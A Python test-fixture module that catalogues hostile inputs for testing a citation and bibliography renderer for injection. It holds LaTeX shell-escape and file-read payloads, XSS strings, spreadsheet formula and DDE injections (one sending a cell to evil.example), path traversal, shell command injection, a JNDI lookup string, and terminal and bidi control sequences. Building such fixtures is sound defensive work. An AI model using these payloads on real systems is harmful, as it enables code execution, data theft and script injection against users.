"""What an attacker would write into a title, a name, a key: by what it would harm.

Each text is harmless to keep and to print as what it is; none of them may ever be obeyed. What
would be a sign of obedience is named here too: a file that must not come to be, words that stand
only in a file which must not be read.
"""

from __future__ import annotations

import re

__all__ = [
    "ALL",
    "CANARY",
    "CATALOGUE",
    "ENDLESS",
    "KEYS",
    "PWNED",
    "SAMPLE",
    "SECRET",
    "SURROGATES",
    "for_xml",
]

# The file that every planted command would make.
PWNED = "pwned"
# The file that LaTeX would read in, and what it would then print.
SECRET = "secret.tex"  # noqa: S105 - it is the name of a file
CANARY = "CANARYOFTHEMINE"

_LATEX = (
    rf"\input{{{SECRET}}}",
    r"\input secret",
    r"\include{secret}",
    r"\InputIfFileExists{secret.tex}{}{}",
    rf"\write18{{touch {PWNED}}}",
    rf"\immediate\write18{{touch {PWNED}}}",
    rf"{{\immediate\write 18 {{touch {PWNED}}}}}",
    rf"\openout15={PWNED} \write15{{x}}\closeout15",
    rf"\newwrite\x\immediate\openout\x={PWNED}.txt\immediate\write\x{{y}}",
    rf"\csname input\endcsname{{{SECRET}}}",
    rf"\csname immediate\endcsname\csname write\endcsname18{{touch {PWNED}}}",
    rf"\expandafter\input\expandafter{{{SECRET}}}",
    rf"\catcode`\@=0 @input{{{SECRET}}}",
    r"\catcode`\%=12 % \catcode`\{=11 {",
    rf"^^5cinput{{{SECRET}}}",
    rf"^^5c^^69nput{{{SECRET}}} ^^^^005cinput{{{SECRET}}}",
    rf"\directlua{{os.execute('touch {PWNED}')}}",
    rf"\begin{{filecontents}}{{{PWNED}}}x\end{{filecontents}}",
    rf"\end{{thebibliography}}\input{{{SECRET}}}",
    r"\end{document}",
    r"\def\a{\a}\a",
    r"\loop\iftrue\repeat",
    r"\renewcommand{\bibitem}[1]{} \let\cite\relax \bye",
    r"\verb|x \verb",
    rf"\special{{ps: ({PWNED}) (w) file}} \pdfobj stream file {{{SECRET}}}",
    rf"\openin5={SECRET} \read5 to\x \x",
    rf"\lstinputlisting{{{SECRET}}} \verbatiminput{{{SECRET}}}",
    r"\href{run:./pwned.sh}{a} \url{javascript:alert(1)}",
    rf"$\input{{{SECRET}}}$",
    rf"$x^{{\immediate\write18{{touch {PWNED}}}}}$ and more",
    rf"$\mathrm{{\input{{{SECRET}}}}}$",
    rf"$\textrm{{$\input{{{SECRET}}}$}}$",
    rf"\({PWNED}\) \[\input{{{SECRET}}}\] $$\input{{{SECRET}}}$$",
    rf"\textbf{{\input{{{SECRET}}}}} \emph{{a",
    rf"\ensuremath{{\input{{{SECRET}}}}}",
    rf"\'{{\input{{{SECRET}}}}} \'\input{{{SECRET}}}",
    rf"a\\input{{{SECRET}}} a\\\input{{{SECRET}}}",
    "an open { brace",
    "a closed } brace",
    "}}}} {{{{",
    "}{",
    "a % comment that eats the rest",
    "100% of # and & and _ and ^ and ~ and $",
    "$ alone",
    "a trailing backslash \\",
    "a trailing brace \\{",
    "a trailing brace \\}",
    'quotes " " # " and # "',
    "a, b, c, d, e",
    "and and and",
    "Smith and Jones and others",
    "@comment{x} @string{a = b} @preamble{c}",
    f'}},\n}}\n@preamble{{"\\input{{{SECRET}}}"}}\n@misc{{evil, title = {{x',
    f'",\n}}\n@misc{{evil2, title = "\\input{{{SECRET}}}',
    f"x}}, note = {{\\input{{{SECRET}}}",
    r"--- '' `` ,, !` ?` << >>",
    r"\\ \\[1cm] \newline \par \bigskip",
    r"\u{a} \v{b} \H{c} \r{} \c{\input}",
    f"\\input\u200b{{{SECRET}}} \\inp\u00adut{{{SECRET}}}",
    f"\uff3cinput\uff5b{SECRET}\uff5d \ufe68input{{{SECRET}}}",
    rf"&#92;input&#123;{SECRET}&#125; &bsol;input&lbrace;{SECRET}&rbrace;",
    rf"&amp;#92;input&amp;#123;{SECRET}&amp;#125;",
    rf"<tex-math>\input{{{SECRET}}}</tex-math>",
    rf"<tex-math>$\immediate\write18{{touch {PWNED}}}$</tex-math>",
    rf"<mml:math><mml:mi>\input{{{SECRET}}}</mml:mi><mml:mo>}}</mml:mo></mml:math>",
    rf"<mml:math><mml:mtext>$\input{{{SECRET}}}$ % {{ {{}} }}</mml:mtext></mml:math>",
    rf'<math alttext="\input{{{SECRET}}}"><mi>x</mi></math>',
    rf"<math><mi>x</mi><annotation encoding='tex'>\input{{{SECRET}}}</annotation></math>",
)
_HTML = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "<a href='javascript:alert(1)'>click</a>",
    "<i onmouseover=alert(1)>slanted</i>",
    "<style>*{display:none}</style>",
    "<!-- a comment --><script>alert(1)</script>",
    "--> <script>alert(1)</script> <!--",
    "<!-- /enrich --><script>alert(1)</script><!-- enrich -->",
    "]]><script>alert(1)</script><![CDATA[",
    "<iframe src=javascript:alert(1)>",
    "<b><i><sub>never closed",
    "</i></b></span></div>",
    '<span style="font-variant:small-caps;" onclick="alert(1)">x</span>',
    "[click](javascript:alert(1)) ![x](http://evil.example/x.png)",
    "](http://evil.example) [x][y] <http://evil.example>",
    "| a | b |\n|---|---|\n# heading\n- item\n```\ncode",
    "`code` **bold** ~~gone~~ @everyone #1 www.evil.example",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
)
_SPREADSHEET = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '";=1+1;"',
    'DDE ("cmd";"/C calc";"!A0")A0',
)
_TERMINAL = (
    "\x1b[2J\x1b[1;1Hcleared",
    "\x1b]0;a title of the window\x07",
    "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[8mhidden\x1b[0m",
    "\x9b2Jcleared by C1",
    "\x9d0;title\x9c",
    "over\rwritten",
    "rubbed\x08\x08\x08out \x7f",
    "bell\x07 \x0e \x0f \x05",
    "\x1bPq\x1b\\ \x90q\x9c \x1bc",
    "a\u2028line\u2029and\x85another\x0b\x0c",
)
_BIDI = (
    "\u202egnp.exe",
    "user\u202e \u2066// admin\u2069 \u2066",
    "\u202a\u202b\u202d\u202e\u202c",
    "\u2066\u2067\u2068\u2069",
    "\u200e\u200f\u061c marks",
    "&#x202e;entity &#8238; again",
)
_PATHS = (
    "../../etc/passwd",
    "/etc/passwd",
    "..\\..\\windows\\system32",
    "C:\\con\\aux",
    "file:///etc/passwd",
    "~root/.ssh/id_rsa",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned #",
    "| touch pwned",
    "-rf",
    "--output=/tmp/pwned",
    "NUL",
    ".",
    "..",
    "%2e%2e%2fetc%2fpasswd",
    "{word.__class__.__mro__}",
    "%s%s%n%x",
    "${jndi:ldap://evil.example/x}",
)
_CONTROLS = (
    "a\x00b",
    "\x00",
    "".join(map(chr, range(1, 32))),
    "".join(map(chr, range(0x7F, 0xA0))),
    "\ufeffmark \ufffe\uffff \U0001ffff",
)
_ODDITIES = (
    "Z\u0351\u0369\u0349a\u0306\u0325\u0332lgo" + "\u0301" * 300,
    "\ufdfa\ufdfb",
    "\u0130\u0131\u017f\u212a\ufb01\u1e9e",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "\U000e0041\U000e0042tags",
    "\ue000\uf8ff\U000f0000\U0010fffd",
    "\u115f\u1160\u3164\uffa0",
    "\u0000\u0301",
    "\u0301\u0301 begins with marks",
    "\u2060\u200b\u200c\u200d",
    "\u200b",
    " ",
    "",
    "null",
    "\u0661\u0662\u0663",
    "\u2044\u2215\uff0f",
    "\U0001d400\U0001d4d0\U0001d504",
    "-1",
    "1e999",
    "0",
    "NaN",
)

# What costs a reader most where it comes again and again.
PIECES = (
    "long ",
    "W",
    "{",
    "}",
    "{}",
    "\\",
    "$",
    "<i>",
    "<i></i>",
    "&amp;",
    "amp;",
    "&#5",
    "<",
    "<!--",
    "\\textbf{",
    "\\'",
    "$x_{",
    "$x$",
    "^{",
    "<mml:math><mml:mrow>",
    "a, ",
    "and ",
    "- ",
    "-",
    "\u0301",
    "\u202e",
    "\xe9",
    "\u4e00",
    "(",
    "'",
    "[",
    "](",
    ". ",
    " ",
    "\n",
    "0",
)


def repeated(piece: str, length: int) -> str:
    """Make a text of about this length, which in one case is an entity inside an entity."""
    return ("&" if piece == "amp;" else "") + piece * (length // len(piece))


# Long for a field, and short enough for all fields at once.
_LONG = tuple(repeated(piece, 300) for piece in PIECES)
# Longer than the strings of BibTeX, and for programs alone, since it takes long.
ENDLESS = (repeated("\\", 30_000), *(repeated(piece, 600) for piece in PIECES))

CATALOGUE = {
    "latex": _LATEX,
    "html": _HTML,
    "spreadsheet": _SPREADSHEET,
    "terminal": _TERMINAL,
    "bidi": _BIDI,
    "paths": _PATHS,
    "controls": _CONTROLS,
    "oddities": _ODDITIES,
    "long": _LONG,
}
ALL = tuple(text for texts in CATALOGUE.values() for text in texts)
_STEERING = {"terminal", "bidi", "controls"}
# For what takes a run each: all that steers a terminal, and some of each other kind.
SAMPLE = tuple(
    text
    for kind, texts in CATALOGUE.items()
    for number, text in enumerate(texts)
    if kind in _STEERING or number % 6 == 0
)
# What JSON can name, and no text can hold.
SURROGATES = (r"\ud800", r"a\udfffb", r"\udc00\ud800", r"\ud83d", r"\ud83d\u0000")
# What users' own files may have in the place of a citation key.
KEYS = (
    "../../etc/passwd",
    "a}b",
    r"\input{x}",
    "a b",
    "a,b",
    "a%b",
    "a#b",
    "a\x1b[2Jb",
    "a\u202eb",
    "a\x00b",
    "\u00e4\u00f6",
    "/etc/passwd",
    ".",
    "..",
    "-rf",
    "a'b\"c",
    "con",
    "x" * 5000,
    "",
)

# What XML 1.0 takes for a character.
_NOT_IN_XML = re.compile("[^\t\n\r\x20-\ud7ff\ue000-\ufffd\U00010000-\U0010ffff]")


def for_xml(text: str) -> str:
    """Leave out what no XML can hold."""
    return _NOT_IN_XML.sub("", text)
